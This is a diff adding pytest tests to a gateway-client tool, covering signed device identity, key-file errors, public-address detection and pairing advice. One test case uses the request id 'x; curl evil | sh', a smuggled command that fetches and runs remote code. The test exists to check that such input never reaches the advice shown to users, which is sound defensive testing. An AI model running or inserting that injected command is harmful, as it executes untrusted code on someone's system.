@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import hashlib
 import json
 import os
 import socket
@@ -972,3 +974,71 @@ def test_doctor_and_status_tell(home: HandmadeHome, gateway: FakeGateway, tmp_pa
     assert f"--  no gateway at {gateway.url}: nobody listens" in text
     assert "gateway  not running" in run_command("status", *where, env=env)[1]
     assert os.listdir(tmp_path / "home") == [".openclaw"]
+
+
+# --- who we are to gateways on other machines ------------------------------------------------------
+
+
+def open_base64(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+def test_a_gateway_on_another_machine_is_shown_a_signed_device(gateway: FakeGateway, tmp_path: Path) -> None:  # fmt: skip
+    """The text that is signed is the gateway's (FORMATS: v2), for this challenge and this token only."""
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
+
+    far = clawmeter.Endpoint(gateway.url, (TOKEN,), is_remote=True)
+    devices = []
+    for scope in ("operator.read", "operator.admin"):
+        connection = clawmeter.GatewayConnection([scope], state_dir=tmp_path)
+        connection.connect(far)
+        connection.close()
+        params = gateway.connections[-1].requests[0]["params"]
+        device = params["device"]
+        devices.append((device["id"], device["publicKey"]))
+        public = open_base64(device["publicKey"])
+        assert device["id"] == hashlib.sha256(public).hexdigest()
+        assert (device["nonce"], device["signedAt"]) == ("n", 1795237572293)
+        text = f"v2|{device['id']}|gateway-client|backend|operator|{scope}|1795237572293|{TOKEN}|n"
+        Ed25519PublicKey.from_public_bytes(public).verify(open_base64(device["signature"]), text.encode())  # fmt: skip
+    assert len(set(devices)) == 1  # the same device each time
+    assert (tmp_path / "device.pem").stat().st_mode & 0o777 == 0o600
+
+
+def test_a_gateway_on_this_machine_is_shown_no_device(gateway: FakeGateway, tmp_path: Path) -> None:
+    connection = clawmeter.GatewayConnection(state_dir=tmp_path)
+    connection.connect(clawmeter.Endpoint(gateway.url, (TOKEN,)))
+    connection.close()
+    assert "device" not in gateway.connections[0].requests[0]["params"]
+    assert not (tmp_path / "device.pem").exists()
+
+
+@pytest.mark.parametrize("content", [b"", b"no key", b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"])  # fmt: skip
+def test_a_device_key_that_cannot_be_read_is_said_and_kept(tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "device.pem").write_bytes(content)
+    with pytest.raises(GatewayError, match="cannot use the device key") as error:
+        clawmeter.DeviceIdentity.load(tmp_path)
+    assert error.value.advice == "delete it for a new one, which has to be approved again"
+    assert (tmp_path / "device.pem").read_bytes() == content
+
+
+@pytest.mark.parametrize(
+    ("request_id", "advice"),
+    [
+        ("78ef6615-ecd1", "on its machine: openclaw devices approve 78ef6615-ecd1"),
+        ("x; curl evil | sh", "on its machine: openclaw devices list, then openclaw devices approve REQUEST"),
+        (None, "on its machine: openclaw devices list, then openclaw devices approve REQUEST"),
+    ],
+)  # fmt: skip
+def test_how_to_approve_a_pairing_is_nothing_that_a_gateway_could_make_up(request_id: Any, advice: str) -> None:  # fmt: skip
+    details = {"code": "PAIRING_REQUIRED", "requestId": request_id}
+    error = clawmeter.refusal_of({"code": "NOT_PAIRED", "message": "pairing required", "details": details})  # fmt: skip
+    assert (error.status, error.advice) == ("pairing", advice)
+
+
+@pytest.mark.parametrize(
+    ("address", "is_public"),
+    [("8.8.8.8", True), ("2001:4860:4860::8888", True), ("10.1.2.3", False), ("100.64.0.9", False), ("fe80::1%eth0", False), ("fd00::2", False)],
+)  # fmt: skip
+def test_tokens_do_not_cross_the_internet_in_the_clear(address: str, is_public: bool) -> None:  # noqa: FBT001
+    assert clawmeter.is_public(address) is is_public
